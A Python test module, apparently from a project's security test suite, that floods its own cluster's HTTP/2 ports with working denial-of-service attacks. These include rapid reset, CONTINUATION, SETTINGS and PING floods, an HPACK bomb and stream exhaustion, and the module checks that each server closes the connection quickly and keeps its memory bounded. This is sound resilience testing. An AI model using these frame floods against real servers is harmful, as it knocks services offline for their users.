"""Attacks on HTTP/2 itself, each against the wire ports of ingest, the coordinator and a shard."""

import struct
import time

import wire
from case import attempt
from raw import CONTINUATION, DATA, HEADERS, PING, PRIORITY, RESET, SETTINGS, WINDOW, Http2, Stream, connect, is_open, start_of_http2
from servers import READ, WRITE

# MiB that an attack may add to a member: what a port holds of answers that nobody reads, the largest of its budgets that these reach.
GROWTH = 96
ENHANCE_YOUR_CALM = 11


def ports(case):
    """Member, address of its wire port, a path, and a key that may call it. Only services may call a shard."""
    cluster = case.cluster
    return [("ingest", cluster.ingest_wire, "append", WRITE[1]), ("coordinator", cluster.coordinator_wire, "query", READ[1]),
            ("shard-0", cluster.shard(0, "wire"), "append", None)]


def fields(more=(), path="health"):
    return wire.hpack_encode([(":method", "POST"), (":scheme", "http"), (":path", "/sluice/v1/" + path), (":authority", "x"),
                              ("content-type", "application/x-sluice"), *more])


def flood(case, member, address, blob, prepare, what, seconds=None):
    """Connections that send blob(0), blob(1), ... one after the other, each opened anew when the one before is closed."""
    sent = made = 0
    first, code, most = None, None, seconds or case.pick(8, 2)
    before, begun = case.cpu(member), time.monotonic()
    while time.monotonic() < begun + most:
        started, number = time.monotonic(), 0
        try:
            connection = Http2(address)
        except OSError:
            time.sleep(0.05)
            continue
        made += 1
        prepare(connection)
        while time.monotonic() < begun + most and connection.goaway is None and connection.send(part := blob(number)):
            sent, number = sent + len(part), number + 1
        with connection.changed:
            # What made it close may still be in the buffers of both kernels.
            connection.changed.wait_for(lambda: connection.closed or connection.goaway is not None, 1)
        if connection.closed or connection.goaway is not None:
            first, code = first or time.monotonic() - started, connection.goaway if code is None else code
        connection.close()
    share = (case.cpu(member) - before) / (time.monotonic() - begun)
    case.say(f"{what}: {sent / 1e6:.0f} MB over {made} connections, "
             + (f"closed after {first:.2f} s, code {'none' if code is None else code}" if first else "never closed")
             + f", {share:.0%} of a core")
    case.check(f"{what}: the connection is closed within 2 s", first is not None and first < 2, first)


def check_memory(case):
    """The members' memory during the attack, compared with that just before."""
    for member, peak in case.memory.peaks["attack"].items():
        grown = peak - case.memory.peaks["quiet"].get(member, peak)
        case.check(f"{member} grows by at most {GROWTH} MiB", grown <= GROWTH, f"{grown:.0f} MiB")


# ------------------------------------------------------------------------------------------------------- floods of frames

def streams(number, each=500, begin=1):
    """Stream numbers of the blob with this number: each connection begins anew, and none may come twice."""
    return range(number * each * 2 + begin, (number + 1) * each * 2 + begin, 2)


def resets(number, head=fields()):
    return b"".join(wire.h2_frame(HEADERS, 4, n, head) + wire.h2_frame(RESET, 0, n, struct.pack(">I", 8)) for n in streams(number))


def zero_updates(number, head=fields()):
    """Zero is an error of the stream, so the server resets it."""
    return b"".join(wire.h2_frame(HEADERS, 4, n, head) + wire.h2_frame(WINDOW, 0, n, bytes(4)) for n in streams(number))


def bombs(number, entry=b"\x40\x01a" + wire.hpack_integer(3_000, 7) + b"v" * 3_000, head=fields()):
    """Each block names an entry of 3 KB in the table 12,000 times."""
    return b"".join(wire.h2_frame(HEADERS, 5, n, head + entry + b"\xbe" * 12_000) for n in streams(number, 10))


def continuations(number, part=wire.h2_frame(CONTINUATION, 0, 1, wire.hpack_encode([("x-a", "b" * 100)])) * 200):
    return part


def same(frame, times=20_000):
    """A blob that is the same every time."""
    blob = frame * times
    return lambda _: blob


def nothing(_):
    """No preparation."""


FLOODS = [
    ("E1", "rapid reset", "requests that are reset at once: without a limit each costs the server more than its sender", resets, nothing),
    ("E2", "CONTINUATION flood", "a header block that never ends", continuations,
     lambda one: one.send(wire.h2_frame(HEADERS, 0, 1, fields()))),
    ("E3", "SETTINGS flood", "settings that must be acknowledged", same(wire.h2_frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))),
     nothing),
    ("E4", "PING flood", "pings that must be answered", same(wire.h2_frame(PING, 0, 0, b"12345678")), nothing),
    ("E5", "WINDOW_UPDATE of zero", "faults of the sender that make the server reset its streams", zero_updates, nothing),
    ("E8", "HPACK bomb", "header blocks of 16 KB that decode to 36 MB", bombs, nothing),
    ("E9", "empty DATA frames", "DATA that moves nothing", same(wire.h2_frame(DATA, 0, 1)), lambda one: one.open("append", WRITE[1])),
    ("E10", "WINDOW_UPDATE flood", "updates of the connection's window by 1, while nothing is sent",
     same(wire.h2_frame(WINDOW, 0, 0, struct.pack(">I", 1))), nothing),
    ("E11", "PRIORITY flood", "priorities of streams that never are", same(wire.h2_frame(PRIORITY, 0, 5, struct.pack(">IB", 3, 7))),
     nothing)]


def register(name, title, finding, blob, prepare):
    def attack(case):
        case.up()
        with case.attack():
            for member, address, _, _ in ports(case):
                flood(case, member, address, blob, prepare, member)
        check_memory(case)
    attack.__doc__ = "" + finding
    attempt(name, "HTTP/2: " + title)(attack)


for one in FLOODS:
    register(*one)


# ------------------------------------------------------------------------------------------------ streams that stay open

@attempt("E6", "HTTP/2: answers with a window of zero that nobody reads, and requests beyond the limit of streams")
def zero_window(case):
    """100,000 requests on a connection whose answers have a window of zero: without a limit all are open at once."""
    case.up()
    request, none = fields(), wire.h2_frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    with case.attack():
        for member, address, _, _ in ports(case):
            patient, made, counts = Http2(address), [], []
            patient.send(none)
            for _ in range(100):
                patient.open("health", end=True)

            def open_many(_):
                one = connect(address, timeout=3)
                made.append(one)
                sent = 0
                try:
                    one.sendall(start_of_http2() + none)
                    while sent < 100_000:
                        one.sendall(b"".join(wire.h2_frame(HEADERS, 5, n, request) for n in streams(sent // 500)))
                        sent += 500
                except OSError:
                    pass  # closed, or the server reads no more
                counts.append(sent)

            case.join(case.threads(8, open_many), 60)
            left = sum(is_open(one, 0.5) for one in made)
            case.say(f"{member}: {sum(counts):,} requests sent over 8 connections, {left} of them open at the end")
            case.check(f"{member}: connections with 100,000 requests are closed", left == 0, left)
            if case.options.size == "full":
                time.sleep(35)
                held = sum(not one.over for one in patient.streams.values()) if not patient.closed else 0
                case.check(f"{member}: of 100 answers that wait for a window, none is left after 35 s", held == 0, held)
            for one in (patient, *made):
                one.close()
    check_memory(case)


@attempt("E7", "HTTP/2: many open requests with headers of 31 KB")
def large_headers(case):
    """1,000 requests with 32 KB of headers that never end: without a limit all are open."""
    case.up()
    count, each, hold = case.pick(64, 16), 120, case.pick(45, 3)
    padding = [(f"x-{n}", "v" * 1_000) for n in range(29)]
    with case.attack():
        for member, address, path, key in ports(case):
            block = fields([("authorization", f"Bearer {key}")] * bool(key) + padding, path)
            connections = []

            def open_many(_):
                one = Http2(address)
                connections.append(one)
                for _ in range(each):
                    number, one.next = one.next, one.next + 2
                    one.streams[number] = Stream(0)
                    one.send(head_frames(number, block))

            case.join(case.threads(count, open_many), 60)
            time.sleep(0.5)
            before = sum(held(one) for one in connections)
            time.sleep(hold)
            after = sum(held(one) for one in connections)
            for one in connections:
                one.close()
            grown = case.memory.peaks["attack"].get(member, 0) - case.memory.peaks["quiet"].get(member, 0)
            case.say(f"{member}: {before} of {count * each} requests with 31 KB of headers open, {after} after {hold} s, {grown:+.0f} MiB")
            if case.options.size == "full":
                case.check(f"{member}: none is open after {hold} s", after == 0, after)
    check_memory(case)


def held(connection):
    """Streams whose request the server still waits for."""
    if connection.closed or connection.goaway is not None:
        return 0
    return sum(not one.over and one.status is None for one in connection.streams.values())


def head_frames(stream, block):
    """A header block, in frames of at most 16 KiB."""
    parts = [block[at:at + 16_384] for at in range(0, len(block), 16_384)]
    return b"".join(wire.h2_frame(CONTINUATION if number else HEADERS, 4 * (number == len(parts) - 1), stream, part)
                    for number, part in enumerate(parts))
